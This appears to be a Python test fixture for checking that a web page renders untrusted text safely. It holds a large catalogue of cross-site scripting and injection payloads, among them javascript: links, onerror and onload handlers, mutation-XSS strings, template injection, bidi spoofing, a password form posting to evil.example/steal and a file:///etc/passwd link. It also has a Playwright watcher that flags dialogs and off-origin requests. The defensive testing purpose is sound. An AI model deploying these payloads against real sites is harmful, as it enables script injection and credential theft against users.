"""Text that would like to become more than text, in families, and a watch over a browser that notices when it does.

`BAD` is what they all try to run: a watched page has a getter of that name. AWAY is where they try to load from or send to.
No string holds the fake model's marker.
"""

from pathlib import Path
from typing import Any

from playwright.sync_api import ConsoleMessage, Dialog, Page, Request, Route

BAD = "window.__hurt"  # neither a blank nor a quote nor "=", so it stands in an attribute as it is
AWAY = "https://evil.example"
BIDI, ZERO, SHY = "\u202e", "\u200b", "\u00ad"

FAMILIES: dict[str, list[str]] = {
    "links": [
        f"[link](javascript:{BAD})",
        f"[link](JaVaScRiPt:{BAD})",
        f"[link](<javascript:{BAD}>)",
        f"[link]( javascript:{BAD} 'title')",
        f"[link](vbscript:{BAD})",
        f"[link](data:text/html,<script>{BAD}</script>)",
        f"[link](data:text/html;base64,PHNjcmlwdD5{'A' * 8})",
        f"[link](java\tscript:{BAD})",
        f"[link](<java\nscript:{BAD}>)",
        f"[link](&#106;avascript:{BAD})",
        f"[link](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&colon;{BAD})",
        f"[link](javascript&#x3A;{BAD})",
        f"[link](jav&Tab;ascript:{BAD})",
        f"[link](%6Aavascript:{BAD})",
        f"[link](\\javascript:{BAD})",
        f"[link](java{ZERO}script:{BAD})",
        f"[link](ｊavascript:{BAD})",
        f"[link](\x01javascript:{BAD})",
        f"[link](blob:{AWAY}/1)",
        "[link](file:///etc/passwd)",
        "[link](//evil.example/path)",
        f'[link](https://x.example/"onmouseover="{BAD})',
        f"[link](https://x.example 'a\" onfocus=\"{BAD}')",
    ],
    "autolinks": [
        f"<javascript:{BAD}>",
        f"<vbscript:{BAD}>",
        f"<data:text/html,{BAD}>",
        f'https://x.example/"onmouseover="{BAD}',
        f"https://x.example/<svg/onload={BAD}>",
    ],
    "reference links": [
        f"[away][1]\n\n[1]: javascript:{BAD}",
        f"[away]\n\n[away]: <data:text/html,<script>{BAD}</script>>",
        f"![away][2]\n\n[2]: {AWAY}/reference.png",
    ],
    "images": [
        f"![dot]({AWAY}/dot.png)",
        f'![dot" onerror="{BAD}]({AWAY}/x.png)',
        f"![dot](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{BAD}'/>)",
        f"![dot](javascript:{BAD})",
        f"[![dot]({AWAY}/inner.png)](javascript:{BAD})",
    ],
    "raw html": [
        f"<script>{BAD}</script>",
        f"<img src=x onerror={BAD}>",
        f'<img src="{AWAY}/raw.png">',
        f"<a href='javascript:{BAD}'>link</a>",
        f"<details open ontoggle={BAD}><summary>more</summary></details>",
        f"<input autofocus onfocus={BAD}>",
        f"<video src={AWAY}/a.mp4 onerror={BAD}></video>",
        f"<body onload={BAD}>",
        f"<SCRIPT SRC={AWAY}/x.js></SCRIPT>",
        f"<div popover id=p onbeforetoggle={BAD}>x</div><button popovertarget=p>x</button>",
    ],
    "svg and mathml": [
        f"<svg onload={BAD}>",
        f"<svg><script>{BAD}</script></svg>",
        f"<svg><animate onbegin={BAD} attributeName=x dur=1s>",
        f"<svg><a xlink:href='javascript:{BAD}'><text>link</text></a></svg>",
        f"<svg><image href='{AWAY}/svg.png'/></svg>",
        f"<math><maction actiontype='statusline#http://x' xlink:href='javascript:{BAD}'>link</maction></math>",
    ],
    "mutations": [
        f"<noscript><p title='</noscript><img src=x onerror={BAD}>'>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={BAD}&gt;'>",
        f"<svg></p><style><a id='</style><img src=1 onerror={BAD}>'>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={BAD}>",
        f"<template><style></template><img src=x onerror={BAD}>",
    ],
    "break-outs": [
        f'"><img src=x onerror={BAD}>',
        f"'><svg onload={BAD}>",
        f"</textarea><img src=x onerror={BAD}>",
        f"</title><script>{BAD}</script>",
        f"</script><script>{BAD}</script>",
        f"--></code></pre><img src=x onerror={BAD}>",
        f'" autofocus onfocus="{BAD}" x="',
        f"\\u003cimg src=x onerror={BAD}\\u003e",
    ],
    "fences": [
        f'```"><img/src=x/onerror={BAD}>\ncode\n```',
        f"```html\n<script>{BAD}</script>\n```",
        f"```js onload={BAD}\ncode\n```",
        f"~~~</code></pre><svg/onload={BAD}>\ncode\n~~~",
        f"`<img src=x onerror={BAD}>`",
        f"    <script>{BAD}</script>",
    ],
    "comments and declarations": [
        f"<!-- --!><img src=x onerror={BAD}> -->",
        f"<!--><script>{BAD}</script>-->",
        f"<![CDATA[<img src=x onerror={BAD}>]]>",
        f"<?php {BAD} ?><img src=x onerror={BAD}>",
    ],
    "templates": [
        "{{ 7|add:7 }}{% include 'base.html' %}{# x #}",
        f"{{{{constructor.constructor('{BAD}')()}}}}",
        f"${{{BAD}}} #{{{BAD}}} <%= {BAD} %>",
        f"<p x-data x-init='{BAD}' hx-get='{AWAY}/hx' hx-trigger='load'>x</p>",
    ],
    "formulas": [
        f"$\\href{{javascript:{BAD}}}{{x}}$",
        f"$$<img src=x onerror={BAD}>$$",
        f"\\(\\html{{<svg onload={BAD}>}}\\)",
        f"$\\includegraphics{{{AWAY}/tex.png}}$",
    ],
    "unseen signs": [
        f"{BIDI}<img src=x onerror={BAD}>{BIDI}",
        f"[https://good.example{BIDI}gpj.](https://evil.example/)",
        f"<{ZERO}script>{BAD}</script>",
        f"java{SHY}script:{BAD}",
        f"＜script＞{BAD}＜/script＞",
    ],
    "styles": [
        f"<style>@import '{AWAY}/a.css'; body{{background:url({AWAY}/b.png)}}</style>",
        f"<p style='background:url({AWAY}/c.png)'>x</p>",
        f"<link rel=stylesheet href={AWAY}/d.css>",
        f'<p style="width:expression({BAD});behavior:url({AWAY}/e)">x</p>',
    ],
    "frames and forms": [
        f"<iframe src='javascript:{BAD}'></iframe>",
        "<iframe srcdoc='<script>parent.__hurt</script>'></iframe>",
        f"<object data='data:text/html,<script>{BAD}</script>'></object><embed src={AWAY}/f.swf>",
        f"<form action='{AWAY}/steal'><input name=password><button formaction='javascript:{BAD}'>go</button></form>",
        f"<meta http-equiv=refresh content='0;url={AWAY}/refresh'>",
        f"<base href='{AWAY}/base/'>",
    ],
    "terminals and json": [
        f"\x1b]8;;javascript:{BAD}\x1b\\link\x1b]8;;\x1b\\ \x1b[31mred\x1b[0m",
        f'{{"a":"</script><script>{BAD}</script>"}}',
        f"'; {BAD}; //",
        f"]]>}}`;{BAD};//",
    ],
    "file names": [
        f"<img src=x onerror={BAD}>.txt",
        f'a" onmouseover="{BAD}.txt',
        f"{BIDI}txt.exe",
        f"javascript:{BAD}.md",
    ],
}
STRINGS = [text for family in FAMILIES.values() for text in family]
STARTS_A_FENCE = ("```", "~~~")

HARM = (Path(__file__).parent / "hostile_harm.js").read_text()


class Watch:
    """Notes what a page does that it must not: dialogs, errors, broken policy, addresses elsewhere. The latter are not reached."""

    def __init__(self, page: Page, origin: str) -> None:
        self.faults: list[str] = []
        self._origin = origin
        page.context.add_init_script("Object.defineProperty(window, '__hurt', { get() { window.__pwned = 1; } })")
        page.context.route(lambda address: not address.startswith((origin, "data:", "blob:")), self._stop)
        self.follow(page)
        page.context.on("page", self._opened)

    def follow(self, page: Page) -> None:
        page.on("console", self._heard)
        page.on("pageerror", lambda error: self.faults.append(f"error: {error}"))
        page.on("dialog", self._asked)
        page.on("request", self._requested)

    def _opened(self, page: Page) -> None:
        self.faults.append(f"a window: {page.url}")

    def _stop(self, route: Route) -> None:
        self.faults.append(f"request: {route.request.url}")
        route.abort()

    def _requested(self, request: Request) -> None:
        if not request.url.startswith((self._origin, "data:image/", "blob:")):
            self.faults.append(f"request: {request.url}")

    def _asked(self, dialog: Dialog) -> None:
        self.faults.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _heard(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "Permissions-Policy" in message.text:
            self.faults.append(message.text)

    def look(self, page: Page, where: str) -> None:
        """Search the page as it stands for what text has become."""
        harm: list[Any] = page.evaluate(HARM)
        self.faults += [f"{where}: {each}" for each in harm]
